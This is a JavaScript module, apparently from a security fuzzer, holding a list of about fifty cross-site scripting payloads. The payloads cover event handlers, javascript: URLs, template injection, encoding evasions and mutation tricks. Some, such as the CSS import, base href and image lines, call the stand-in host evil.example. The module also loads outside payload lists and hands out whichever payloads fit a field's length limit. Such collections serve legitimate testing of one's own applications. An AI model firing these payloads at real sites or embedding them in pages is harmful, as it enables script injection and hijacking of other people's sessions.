// Texts that try to become script: our own few, and a whole list named by NUONG_XSS, one a line.
import { readFileSync } from "node:fs";

/** One or two for each way a text can get out of where it is put: element, attribute, script, style, address, template, event. */
const own = [
  `<script>alert(1)</script>`,
  `</script><script>alert(1)</script>`,
  `</textarea></title></style><svg/onload=alert(1)>`,
  `<img src=x onerror=alert(1)>`,
  `<image src=x onerror=alert(1)>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg onload=alert(1)>`,
  `" autofocus onfocus=alert(1) x="`,
  `' onmouseover='alert(1)`,
  `" onpointerenter=alert(1) style="position:fixed;inset:0`,
  `<svg><script>alert&#40;1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src=javascript:alert(1)>`,
  `<object data="javascript:alert(1)">`,
  `<embed src="data:text/html,<script>alert(1)</script>">`,
  `<a href="javascript:alert(1)" id=x>x</a>`,
  `javascript:alert(1)//`,
  `data:text/html,<script>alert(1)</script>`,
  `<form action=javascript:alert(1)><input type=submit autofocus>`,
  `<button formaction=javascript:alert(1)>x`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)>`,
  `<audio src onloadstart=alert(1)>`,
  `<body onload=alert(1)>`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<link rel=stylesheet href=data:text/css,*{background:url(//evil.example)}>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<base href=//evil.example/>`,
  `<template><script>alert(1)</script></template>`,
  `{{constructor.constructor('alert(1)')()}}`,
  "${alert(1)}",
  "`-alert(1)-`",
  `'-alert(1)-'`,
  `";alert(1);//`,
  `\\";alert(1);//`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `\u003cscript\u003ealert(1)\u003c/script\u003e`,
  `＜script＞alert(1)＜/script＞`,
  `<ſcript>alert(1)</ſcript>`,
  `<img src=//evil.example/x.png>`,
  `__proto__`,
];

export const list = process.env.NUONG_XSS;

/** Characters that fields do not take are left out, as a forger would. */
export const payloads = (list === undefined ? own : readFileSync(list, "utf8").split(/\r?\n/))
  .map((line) => line.replaceAll(/[^\P{Cc}\t]|\p{Noncharacter_Code_Point}/gu, "").trim())
  .filter((line) => line !== "" && [...line].length <= 4000);

const byLength = payloads.toSorted((one, other) => [...other].length - [...one].length);

/** Gives texts that fit where they are put: of those not given yet the longest; then by turns. */
export class Supply {
  #waiting = [...byLength];
  #turn = 0;

  /** How many of them were not given yet. */
  get left() {
    return this.#waiting.length;
  }

  take(max) {
    const fits = (text) => [...text].length <= max;
    const at = this.#waiting.findIndex(fits);
    if (at >= 0) return this.#waiting.splice(at, 1)[0];
    const fitting = byLength.filter(fits);
    this.#turn += 1;
    return fitting[this.#turn % fitting.length];
  }
}
